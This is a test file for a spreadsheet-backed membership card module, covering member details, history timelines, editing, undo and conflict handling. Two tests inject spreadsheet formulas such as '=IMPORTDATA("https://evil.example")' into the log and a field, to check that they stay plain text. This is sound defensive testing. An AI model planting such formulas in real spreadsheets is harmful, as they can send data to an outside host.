// The member card: all that is known about one person, in few reads.

import { editMember, memberCard, undoEdit } from '../../../src/server/card/index.ts';
import { noteContact } from '../../../src/server/contacts/index.ts';
import { setByHand } from '../../../src/server/groups/index.ts';
import { careRoom } from '../../support/careRoom.ts';

const edit = { memberId: '102', field: 'street' as const, expected: 'Weserstraße 3', value: 'Sonnenallee 6', operationId: 'operation-1' };

describe('the card', () => {
  test('says who it is, how old, since when, and how to reach them', () => {
    const { room } = careRoom();
    setByHand(room, { memberId: '101', group: 'BO Reuterkiez', expectedGroup: '' });
    expect(memberCard(room, { memberId: '101' }).card).toMatchObject({
      memberId: '101',
      name: 'Ayşe Müller',
      age: 47,
      birthDate: '1979-06-05',
      memberSince: '2008-06-18',
      left: '',
      group: 'BO Reuterkiez',
      groupSource: 'hand',
      contactPerson: { name: 'Ada', email: 'ada@example.org', phone: '030 23125700' },
      groups: ['BO Reuterkiez', 'BO Donaukiez', 'BO Schillerkiez'],
      noCall: false,
      phones: [{ field: 'phone', tel: '+493023125642' }],
      email: 'ayse@example.org',
      address: 'Sonnenallee 5, 12045 Berlin',
    });
  });

  test('dates as text, consents, and a birthday on 29 February', () => {
    const at = careRoom();
    at.type(102, 'Kein Anruf', 'Ja');
    expect(memberCard(at.room, { memberId: '102' }).card).toMatchObject({ age: 35, birthDate: '1991-01-06', noCall: true, noEmail: false });
    expect(memberCard(at.room, { memberId: '104' }).card).toMatchObject({ age: 38, left: '2024-03-01', phones: [] });
  });

  test('a number without its area code is shown as it stands, and not dialled', () => {
    expect(memberCard(careRoom().room, { memberId: '105' }).card?.phones).toEqual([{ field: 'phone', shown: '23125764', tel: '' }]);
  });

  test('without an id it is the member of the selected row', () => {
    const at = careRoom();
    at.list.show(at.rowOf(106), 3);
    expect(memberCard(at.room, {}).card).toMatchObject({ memberId: '106', row: 8 });
    at.list.show(1, 1);
    expect(memberCard(at.room, {})).toEqual({ card: null });
    at.room.workbook.tab('Gruppen').show(2, 1);
    expect(memberCard(at.room, {})).toEqual({ card: null });
  });

  test('the history has contacts, tasks and changes, the newest first', () => {
    const at = careRoom();
    at.room.workbook.tab('Aufgaben').append([['task-1', 'Erstgespräch', '102', 'Leyla Kaya', '', 'Ada', '2026-12-01', 'offen', '', '']]);
    noteContact(at.room, { memberId: '102', contactId: 'contact-0001', kind: 'call', note: 'Hat Zeit.', at: '2026-11-20T18:00:00.000Z' });
    noteContact(at.room, { memberId: '101', contactId: 'contact-0002', kind: 'call' });
    setByHand(at.room, { memberId: '102', group: 'BO Donaukiez', expectedGroup: '' });
    const card = memberCard(at.room, { memberId: '102' }).card;
    expect(card?.timeline.map(({ source, title, text }) => [source, title, text])).toEqual([
      ['task', 'Erstgespräch', 'offen'],
      ['change', 'BO von Hand', 'BO: leer → BO Donaukiez\nBO-Quelle: leer → Hand'],
      ['contact', 'Anruf', 'Hat Zeit.'],
    ]);
    expect(card).toMatchObject({ timelineTotal: 3, lastContact: '2026-11-20' });
  });

  test('costs one read a tab, however many members', () => {
    const at = careRoom();
    at.room.workbook.forget();
    memberCard(at.room, { memberId: '102' });
    expect(at.room.workbook.counts().read).toBe(6);
  });
});

describe('editing', () => {
  test('whatever somebody has made of the log, taking back puts no formula into the list', () => {
    const at = careRoom();
    editMember(at.room, edit);
    const log = at.room.workbook.tab('Protokoll');
    const row = log.values().findIndex((line) => line[3] === 'operation-1') + 1;
    log.set(row, 7, '=IMPORTDATA("https://evil.example")');
    undoEdit(at.room, { operationId: 'operation-1' });
    expect(at.cell(102, 'Straße')).toBe('=IMPORTDATA("https://evil.example")');
    expect(at.list.readFormulas(at.rowOf(102), 4, 1, 1)).toEqual([['']]);
  });

  test('writes the cell and can be taken back', () => {
    const at = careRoom();
    expect(editMember(at.room, edit)).toEqual({ field: 'street', value: 'Sonnenallee 6', changed: true, message: 'Gespeichert.' });
    expect(at.cell(102, 'Straße')).toBe('Sonnenallee 6');
    expect(undoEdit(at.room, { operationId: 'operation-1' })).toMatchObject({ value: 'Weserstraße 3' });
    expect(at.cell(102, 'Straße')).toBe('Weserstraße 3');
    // The answer got lost: asked again it says the same, and writes nothing.
    expect(undoEdit(at.room, { operationId: 'operation-1' })).toMatchObject({ value: 'Weserstraße 3', changed: false });
    expect(() => undoEdit(at.room, { operationId: 'operation-9' })).toThrow(expect.objectContaining({ code: 'nothing_to_undo' }));
    expect(at.room.unlocked).toEqual([]);
  });

  test('somebody else’s change is told and stays', () => {
    const at = careRoom();
    at.type(102, 'Straße', 'Fuldastraße 1');
    expect(() => editMember(at.room, edit)).toThrow(expect.objectContaining({ code: 'changed_meanwhile', details: ['Fuldastraße 1'] }));
    expect(at.cell(102, 'Straße')).toBe('Fuldastraße 1');
  });

  test('sent twice it is one change; a sorted list is no danger', () => {
    const at = careRoom();
    editMember(at.room, edit);
    at.list.sort(3, 2);
    expect(editMember(at.room, edit)).toMatchObject({ changed: false, value: 'Sonnenallee 6' });
    expect(at.room.workbook.tab('Protokoll').below('Vorgang-ID').filter((id) => id === 'operation-1')).toHaveLength(1);
  });

  test('numbers stay numbers, dates become dates, hostile text stays text; undo brings back the same kind', () => {
    const at = careRoom();
    editMember(at.room, { ...edit, field: 'postcode', expected: '12045', value: '12049' });
    expect(at.cell(102, 'PLZ')).toBe(12049);
    editMember(at.room, { ...edit, field: 'birthDate', expected: '06.01.1991', value: '7.1.91', operationId: 'operation-2' });
    expect(at.cell(102, 'Geburtsdatum')).toEqual(new Date('1991-01-07T00:00:00.000Z'));
    editMember(at.room, { ...edit, field: 'interests', expected: '', value: '=IMPORTDATA("x")', operationId: 'operation-3' });
    expect(at.cell(102, 'Interessen')).toBe('=IMPORTDATA("x")');
    for (const operationId of ['operation-1', 'operation-2', 'operation-3']) undoEdit(at.room, { operationId });
    expect([at.cell(102, 'PLZ'), at.cell(102, 'Geburtsdatum'), at.cell(102, 'Interessen')]).toEqual([12045, '06.01.1991', '']);
  });

  test.each([
    ['birthDate', '06.01.1991', '31.02.1980'],
    ['email', '', 'leyla@'],
    ['mobile', '0152 28817386', '23125764'],
    ['postcode', '12045', '1204'],
  ] as const)('%s does not take what cannot be meant', (field, expected, value) => {
    const at = careRoom();
    expect(() => editMember(at.room, { ...edit, field, expected, value })).toThrow(expect.objectContaining({ code: 'value_unclear', params: { field } }));
  });

  test('nobody loses their only name', () => {
    const at = careRoom();
    at.type(106, 'Vorname', '');
    expect(() => editMember(at.room, { ...edit, memberId: '106', field: 'lastName', expected: 'Schäfer', value: ' ' })).toThrow(expect.objectContaining({ code: 'value_unclear' }));
  });

  test('undo leaves what somebody changed since', () => {
    const at = careRoom();
    editMember(at.room, edit);
    at.type(102, 'Straße', 'Fuldastraße 1');
    expect(() => undoEdit(at.room, { operationId: 'operation-1' })).toThrow(expect.objectContaining({ code: 'changed_meanwhile', details: ['Fuldastraße 1'] }));
  });
});
